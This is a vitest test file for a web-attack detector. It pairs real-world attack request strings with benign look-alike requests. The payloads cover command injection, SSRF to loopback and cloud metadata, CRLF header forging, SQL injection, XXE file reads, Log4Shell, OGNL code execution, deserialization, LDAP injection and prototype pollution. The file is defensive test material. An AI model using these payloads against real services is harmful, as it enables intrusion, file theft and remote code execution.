// Round 3 of web payloads, taken from real attacker traffic rather than the generator: short commands glued
// to a separator, SSRF to loopback in every spelling, CRLF header injection, SQL keywords cut by comments,
// more template probes, XXE, OGNL, deserialization markers, LDAP filters, prototype pollution; and the
// scary-looking requests of a legitimate site (searches, GraphQL, PromQL, Kibana, OAuth), which stay quiet.
import { afterEach, describe, expect, it } from 'vitest';
import { analyzeCase, matchPayload } from '../../../src/core/analysis';
import type { Finding } from '../../../src/shared/model';
import { cleanup, makeCase, T0, webPopulation, type Ev } from './helpers';

afterEach(cleanup);

const BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36';
const split = (req: string): [string, string | null] => {
  const q = req.indexOf('?');
  return q < 0 ? [req, null] : [req.slice(0, q), req.slice(q + 1)];
};
const get = (ip: string, req: string, i = 0, status = 200): Ev => {
  const [path, query] = split(req);
  return { ts: T0 + 3_600_000 + i * 30_000, src_ip: ip, method: 'GET', path, query, status, bytes: 1200, user_agent: BROWSER };
};
async function webFindings(extra: Ev[]): Promise<Finding[]> {
  return (await analyzeCase(makeCase([...webPopulation(20), ...extra]), { inline: true })).findings.filter((f) => f.detector === 'webAttacks');
}
/** `unit` repeated after a parameter to 200 KB: near-misses of a pattern all along one line */
const hostile = (unit: string): string => `/x?a=${unit.repeat(Math.ceil(200_000 / unit.length))}`.slice(0, 200_000);

interface Case {
  name: string;
  kind: string;
  attacks: string[];
  lookalikes: string[];
  hostile: string[];
}

const CASES: Case[] = [
  {
    name: 'a short command glued to a separator, a blind sleep, $IFS',
    kind: 'cmdi',
    attacks: [
      '/ping?ip=1;id',
      '/ping?host=127.0.0.1%3Bcat%20/etc/passwd',
      '/cgi?x=1|whoami',
      '/cgi?x=$(id)',
      '/cgi?x=%60id%60',
      '/ping?host=1%0aid',
      '/ping?host=1;sleep%205',
      '/ping?host=1%7Csleep+10%7C',
      '/ping?host=1;cat${IFS}/tmp/x',
    ],
    lookalikes: ['/search?q=kids%3B+sleep+10+hours', '/search?q=how+to+use+$(document).ready', '/search?q=tom+%26+jerry', '/search?q=sleep+5+hours', '/api/tasks?cmd=list'],
    hostile: [hostile(';sleep '), hostile('; sleep 1 h'), hostile('$ifs$')],
  },
  {
    name: 'SSRF to loopback in any spelling, link-local, or an internal service port',
    kind: 'ssrf',
    attacks: [
      '/fetch?url=http://127.0.0.1:6379/',
      '/fetch?url=http%3A%2F%2Flocalhost%3A8080%2Fadmin',
      '/fetch?url=http://2130706433/',
      '/fetch?url=http://0x7f000001/',
      '/fetch?url=http://0177.0.0.1/',
      '/fetch?url=http://127.1/',
      '/fetch?url=http://[::1]:80/',
      '/fetch?url=http://[0:0:0:0:0:ffff:127.0.0.1]/',
      '/fetch?url=http://0.0.0.0:22/',
      '/fetch?url=http://evil.com@127.0.0.1/',
      '/fetch?url=http://10.0.0.5:8500/v1/agent/self',
      '/fetch?url=http://169.254.170.2/v2/credentials',
      '/fetch?url=http://metadata.google.internal/computeMetadata/v1/',
      '/fetch?url=dict://127.0.0.1:11211/stat',
      '/fetch?url=file:///etc/passwd',
      '/fetch?url=http://c9b2x1.oast.fun/',
    ],
    lookalikes: [
      '/cart?redirect=https://shop.example.com/cart&utm_source=newsletter&utm_medium=email',
      '/r?url=https%3A%2F%2Fshop.example.com%2Fproduct%2F12%3Futm_source%3Dfb',
      // a native app's own loopback listener as the OAuth redirect (RFC 8252: gcloud, az, gh log in this way)
      '/oauth/authorize?response_type=code&client_id=cli&redirect_uri=http%3A%2F%2F127.0.0.1%3A53682%2F&state=xyz',
      '/oauth/authorize?response_type=code&client_id=cli&redirect_uri=http://localhost:8085/callback&state=xyz',
      '/nagios/cgi-bin/status.cgi?host=2001:db8::10',
      '/monitor/host?host=%3A%3A1&metric=cpu',
      '/zabbix/host.php?host=localhost',
      '/admin/config?redis_url=redis://10.0.0.7:6379/0',
      '/link?u=http://192.168.1.10/printer',
      '/blog/2024/127-0-0-1-explained',
    ],
    hostile: [hostile('http://aaaa@'), hostile('=//'), hostile('=http://[0:0:0:'), hostile('=http://10.0.0.1:63'), hostile(`=http://${'1'.repeat(40)}`), hostile('.oast.')],
  },
  {
    name: 'CRLF and a forged response header',
    kind: 'crlf',
    attacks: ['/lang?l=en%0d%0aSet-Cookie:%20admin=1', '/r?next=%0d%0aLocation:%20http://evil.com', '/r?next=/%250d%250aSet-Cookie:x=1', '/r?next=%E5%98%8A%E5%98%8DSet-Cookie:x', '/r?x=%0d%0aHTTP/1.1%20200%20OK'],
    lookalikes: ['/contact?message=Hello%0D%0AI+would+like+a+quote.%0D%0AName%3A+Bob', '/contact?address=12+Main+St%0D%0ASpringfield', '/search?q=location%3A+paris', '/search?q=set-cookie%3A+header'],
    hostile: [hostile('%0d%0a'), hostile('\r\n \r\n'), hostile('%0d%0aset-cookie')],
  },
  {
    name: 'SQL keywords cut by comments, a quoted tautology after a number',
    kind: 'sqli',
    attacks: ['/p?id=1%20UN/**/ION%20SEL/**/ECT%201,2', '/p?id=1%20U/**/NI/**/ON%20S/**/ELECT%201', '/p?id=1%20OR%20%27x%27%3D%27x', '/p?id=1%20and%20%22a%22=%22a'],
    lookalikes: ['/search?q=select+a+union+rep', '/select/union-station-map', '/docs/a/**/b', "/search?q=tom+and+'jerry'", '/search?q=cats+or+dogs'],
    hostile: [hostile('un/**/'), hostile('a/*'), hostile(" or 'aaaa' = ")],
  },
  {
    name: 'template injection probes of Twig, Thymeleaf, Razor and AngularJS',
    kind: 'ssti',
    attacks: ["/t?n={{7*'7'}}", '/t?n=*{7*7}', '/t?n=@(7*7)', "/t?n={{x.constructor.constructor('return process')().mainModule}}"],
    lookalikes: ['/docs/templates/{{name}}.html', '/search?q=7*7', '/calc?expr=(2%2B3)*4', '/api/users?email=bob%40example.com'],
    hostile: [hostile('@(1*'), hostile('{{1*1'), hostile('*{1 * 1 ')],
  },
  {
    name: 'an XML external entity',
    kind: 'xxe',
    attacks: ['/x?xml=<!DOCTYPE%20foo%20[<!ENTITY%20xxe%20SYSTEM%20"file:///etc/passwd">]>', '/x?xml=%3C!ENTITY%20%25%20x%20SYSTEM%20%22http://evil/x.dtd%22%3E', '/x?xml=<xi:include%20href="file:///etc/hosts"/>'],
    lookalikes: ['/search?q=xml+entity+system', '/feed?format=rss&since=2024-01-01T00:00:00Z', '/docs/xml/doctype-html'],
    hostile: [hostile('<!entity aaaa '), hostile('<!doctype aaaa system ')],
  },
  {
    name: 'Log4Shell through date lookups',
    kind: 'jndi',
    attacks: ["/?x=${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://a/b}"],
    lookalikes: ["/report?from=${date:'yyyy'}"],
    hostile: [hostile("${date:'j")],
  },
  {
    name: 'prototype pollution',
    kind: 'prototype',
    attacks: ['/api?__proto__[admin]=1', '/api?__proto__.admin=1', '/api?constructor[prototype][admin]=1', '/api?a[__proto__][b]=1', '/api?data=%7B%22__proto__%22%3A%7B%22admin%22%3Atrue%7D%7D'],
    lookalikes: ['/search?q=what+is+__proto__+in+javascript', '/search?q=constructor+prototype+javascript', '/docs/javascript/__proto__', '/api/items?filter[status]=open&page[size]=20'],
    hostile: [hostile('__proto__'), hostile('[constructor [ prototype ')],
  },
  {
    name: 'a serialized Java, .NET or PHP object in a parameter',
    kind: 'deserialization',
    attacks: ['/x?data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA', '/x?data=O:8:"stdClass":1:{s:1:"a";s:1:"b";}', '/x?data=O%3A8%3A%22stdClass%22%3A0%3A%7B%7D', '/x?v=AAEAAAD/////AQAAAAAAAAAM', '/x?data=aced0005737200'],
    lookalikes: [
      '/account/verify?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c',
      '/s?data=SGVsbG8gV29ybGQhIFRoaXMgaXMgYmFzZTY0IHRleHQ%3D',
      '/search?q=O%3A8+train+schedule',
      '/x?id=xrO0ABcd',
      // a JSF page posting back its own client-side state (serialized Java, from every visitor)
      '/app/orders.xhtml?javax.faces.ViewState=rO0ABXVyABNbTGphdmEubGFuZy5PYmplY3Q7',
    ],
    hostile: [hostile('=ro0a'), hostile('o:1:"aaaa'), hostile(`o:1:"${'a'.repeat(120)}`), hostile('!!java')],
  },
  {
    name: 'an LDAP filter closed and reopened',
    kind: 'ldap',
    attacks: ['/login?user=*)(uid=*))(|(uid=*', '/login?user=admin)(%26)', '/login?user=*)(|(password=*)', '/login?user=admin*)((|userPassword=*)'],
    lookalikes: [
      '/ldapadmin/search?filter=(%26(objectClass%3Duser)(cn%3Djohn*))&base=dc%3Dexample%2Cdc%3Dcom',
      '/search?q=smile+:)+(happy)',
      '/search?q=f(x)(y)',
      '/api/upload?name=photo(1).jpg',
      '/blog/ldap-filter-(objectclass=user)-explained',
    ],
    hostile: [hostile('&a=x)((((((((((((((((((('), hostile(`&a=${'x'.repeat(60)}`), hostile('&a=x)(a)(a)(')],
  },
  {
    name: 'Struts OGNL',
    kind: 'ognl',
    attacks: [
      '/s?x=%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}',
      "/s?x=${#context['xwork.MethodAccessor.denyMethodExecution']=false}",
      '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%29%29%7D/index.action',
    ],
    lookalikes: ['/search?q=%23hashtag+%24price', '/s?q=%24%7Bprice%7D+template', '/search?q=%25%7Bfoo%7D'],
    hostile: [hostile('${('), hostile('%{ ( #'), hostile('#context ')],
  },
];

describe('matchPayload, round 3', () => {
  for (const c of CASES) {
    it(`finds ${c.name}`, () => {
      expect(c.attacks.map((a) => [a, matchPayload(a)?.kind])).toEqual(c.attacks.map((a) => [a, c.kind]));
    });
    it(`leaves look-alikes of ${c.name} alone`, () => {
      expect(c.lookalikes.map((a) => [a, matchPayload(a)])).toEqual(c.lookalikes.map((a) => [a, null]));
    });
    it(`reads a 200 KB hostile line for ${c.name} quickly`, () => {
      for (const line of c.hostile) {
        expect(line.length).toBe(200_000);
        const t = performance.now();
        matchPayload(line);
        expect(performance.now() - t).toBeLessThan(500);
      }
    });
  }

  it('shows a CR LF as inert dots and keeps the forged header readable', () => {
    expect(matchPayload('/lang?l=en%0d%0aSet-Cookie:%20admin=1')?.fragment).toBe('…lang?l=en··set-cookie: admin=1');
  });

  it('joins a keyword cut by comments only when the pieces spell a SQL word', () => {
    expect(matchPayload('/p?id=1%20UN/**/ION%20SEL/**/ECT%201,2')?.fragment).toContain('union select');
    expect(matchPayload('/p?id=1%20UNION/**/SELECT%201')?.fragment).toContain('union select');
  });
});

describe('webAttacks: real attacker payloads, round 3', () => {
  it('reports each class by name with the decoded fragment, high for those that run code or read files', async () => {
    const reqs: [string, string, string, string, string][] = [
      // ip, request, kind, severity, a piece of the fragment
      ['192.0.2.101', '/ping?host=127.0.0.1%3Bsleep%205', 'cmdi', 'high', '127.0.0.1;sleep 5'],
      ['192.0.2.102', '/fetch?url=http://2130706433/', 'ssrf', 'high', 'http://2130706433/'],
      ['192.0.2.103', '/lang?l=en%0d%0aSet-Cookie:%20admin=1', 'crlf', 'medium', 'set-cookie: admin=1'],
      ['192.0.2.104', '/p?id=1%20UN/**/ION%20SEL/**/ECT%201,2', 'sqli', 'medium', 'union select 1,2'],
      ['192.0.2.105', '/x?xml=<!DOCTYPE%20foo%20[<!ENTITY%20xxe%20SYSTEM%20"file:///etc/passwd">]>', 'xxe', 'high', '<!entity xxe system'],
      ['192.0.2.106', '/api?__proto__[admin]=1', 'prototype', 'medium', '__proto__[admin]'],
      ['192.0.2.107', '/x?data=O:8:"stdClass":0:{}', 'deserialization', 'high', 'o:8:"stdclass":0:{'],
      ['192.0.2.108', '/login?user=*)(uid=*))(|(uid=*', 'ldap', 'medium', '*)(uid='],
      ['192.0.2.109', '/s?x=%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}', 'ognl', 'high', '%{(#_memberacce'],
    ];
    const labels: Record<string, string> = {
      cmdi: 'command injection',
      ssrf: 'server-side request forgery',
      crlf: 'CRLF / header injection',
      sqli: 'SQL injection',
      xxe: 'XML external entity',
      prototype: 'prototype pollution',
      deserialization: 'serialized object (deserialization)',
      ldap: 'LDAP injection',
      ognl: 'OGNL expression injection',
    };
    const f = await webFindings(reqs.map(([ip, req], i) => get(ip, req, i, 500)));
    expect(f.map((x) => [x.entity, x.numbers.kinds, x.severity]).sort()).toEqual(reqs.map(([ip, , kind, sev]) => [ip, kind, sev]).sort());
    for (const [ip, , kind, , piece] of reqs) {
      const x = f.find((y) => y.entity === ip)!;
      expect(x.title).toContain(labels[kind]);
      expect(x.explanation).toContain(`carried ${labels[kind]}`);
      expect(String(x.numbers.example)).toContain(piece);
      expect(x.explanation).toMatch(new RegExp(`«[^»]*${piece.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}[^»]*»`));
    }
  });

  it('keeps a legitimate site quiet: searches, JSON, tokens, GraphQL, PromQL, Kibana, OAuth, WordPress, APIs', async () => {
    const benign = [
      '/search?q=select+a+union+rep',
      '/search?q=how%20to%20use%20$(document).ready',
      '/search?q=tom+%26+jerry',
      '/api/items?filter=%7B%22status%22%3A%22open%22%2C%22tags%22%3A%5B%22a%22%2C%22b%22%5D%7D',
      '/api/items?filter={"status":"open","price":{"gte":10}}',
      '/account/verify?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c',
      '/cart?redirect=https://shop.example.com/cart&utm_source=newsletter&utm_medium=email&utm_campaign=spring%20sale',
      '/jsonp?callback=jQuery1123045_1701234567890&_=1701234567891',
      '/app/users/42/edit',
      '/graphql?query=%7Buser(id%3A1)%7Bname%7D%7D',
      '/graphql?query={user(id:1){name}}',
      '/graphql?query=query($id:ID!){user(id:$id){name,email}}&variables={"id":"1"}',
      '/logs-*/_search?q=status:500%20AND%20host:web1&size=10',
      '/_cat/indices?v&s=index',
      '/_cluster/health?wait_for_status=yellow&timeout=50s',
      "/app/kibana?_g=(filters:!(),refreshInterval:(pause:!t,value:0),time:(from:now-15m,to:now))&_a=(columns:!(_source),index:'logs-*',query:(language:kuery,query:'response:404%20and%20extension:php'))",
      '/api/v1/query?query=rate(http_requests_total[5m])',
      '/api/v1/query?query=sum%20by%20(job)%20(rate(http_requests_total%5B5m%5D))',
      '/api/v1/query_range?query=histogram_quantile(0.95%2C%20sum(rate(http_request_duration_seconds_bucket%5B5m%5D))%20by%20(le))&start=1700000000&end=1700003600&step=15',
      '/api/v1/query?query=up%7Bjob%3D%22api%22%7D%20%3D%3D%200%20or%20vector(0)',
      '/?p=123&preview=true',
      '/oauth/callback?code=4%2F0AX4XfWhQ8kZ_abcDEF-123&state=eyJyZXR1cm4iOiIvIn0&scope=email%20profile%20openid%20https%3A%2F%2Fwww.googleapis.com%2Fauth%2Fuserinfo.email',
      '/oauth/authorize?response_type=code&client_id=cli&redirect_uri=http%3A%2F%2F127.0.0.1%3A53682%2F&state=xyz',
      '/api/v1/items?sort=-created&filter[status]=open',
      '/download/report..v2.pdf',
      '/select/union-station-map',
      '/api/tasks?cmd=list',
      '/nagios/cgi-bin/status.cgi?host=2001:db8::10',
      '/contact?address=12+Main+St%0D%0ASpringfield',
      '/ldapadmin/search?filter=(%26(objectClass%3Duser)(cn%3Djohn*))',
      '/search?q=what+is+__proto__+in+javascript',
    ];
    const f = await webFindings(benign.map((req, i) => get(`198.51.110.${i + 1}`, req, i)));
    expect(f).toEqual([]);
  });
});

describe('webAttacks: exploits whose body is the payload, POSTed to their endpoint', () => {
  const post = (ip: string, path: string, i: number, status = 200): Ev => ({ ...get(ip, path, i, status), method: 'POST' });
  const exploits: [string, string, string][] = [
    ['192.0.2.121', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'php'],
    ['192.0.2.122', '/_ignition/execute-solution', 'php'],
    ['192.0.2.123', '/mgmt/tm/util/bash', 'cmdi'],
    ['192.0.2.124', '/GponForm/diag_Form?images/', 'cmdi'],
    ['192.0.2.125', '/wls-wsat/CoordinatorPortType', 'deserialization'],
    ['192.0.2.126', '/_async/AsyncResponseService', 'deserialization'],
    ['192.0.2.127', '/actuator/gateway/routes/hacktest', 'ssti'],
  ];

  it('a POST is the attempt (whatever the answer); a GET of the same path is a probe, not a payload', async () => {
    const f = await webFindings([...exploits.map(([ip, path], i) => post(ip, path, i, i % 2 === 0 ? 200 : 404)), ...exploits.map(([, path], i) => get(`198.51.111.${i + 1}`, path, i, 404))]);
    expect(f.map((x) => [x.entity, x.numbers.kinds]).sort()).toEqual(exploits.map(([ip, , kind]) => [ip, kind]).sort());
    expect(f.find((x) => x.entity === '192.0.2.121')!.explanation).toMatch(/«[^»]*eval-stdin\.php[^»]*»/);
    for (const [, path] of exploits) expect(matchPayload(path)?.posted, path).toBe(true);
    // the same words elsewhere are no exploit
    for (const p of ['/docs/phpunit/eval-stdin-explained.html', '/blog/gateway/routes', '/wls-wsat-docs.html']) expect(matchPayload(p), p).toBeNull();
  });
});

describe('time-based injection: the wait it asks for', () => {
  it('reads the seconds of SLEEP, pg_sleep, WAITFOR DELAY, DBMS_PIPE and a shell\'s sleep, encoded or not', () => {
    expect(matchPayload("/p?id=1%27%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)--%20-")?.delay).toBe(5);
    expect(matchPayload("/p?id=1;SELECT%20PG_SLEEP(10)--")?.delay).toBe(10);
    expect(matchPayload("/p?id=1';WAITFOR%20DELAY%20'0:0:7'--")?.delay).toBe(7);
    expect(matchPayload("/p?id=1'%20AND%201=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),3)--")?.delay).toBe(3);
    // an injection with no wait, and a wait of nothing, carry none
    expect(matchPayload("/p?id=1' UNION SELECT password FROM users-- -")?.delay).toBeUndefined();
    expect(matchPayload('/p?id=1%27%20AND%20SLEEP(0)--%20-')?.delay).toBeUndefined();
    // a shell's sleep after a separator, or in a substitution
    expect(matchPayload('/ping.php?host=127.0.0.1%3Bsleep%205%3B')?.delay).toBe(5);
    expect(matchPayload('/ping.php?host=$(sleep%2010)')?.delay).toBe(10);
  });
});
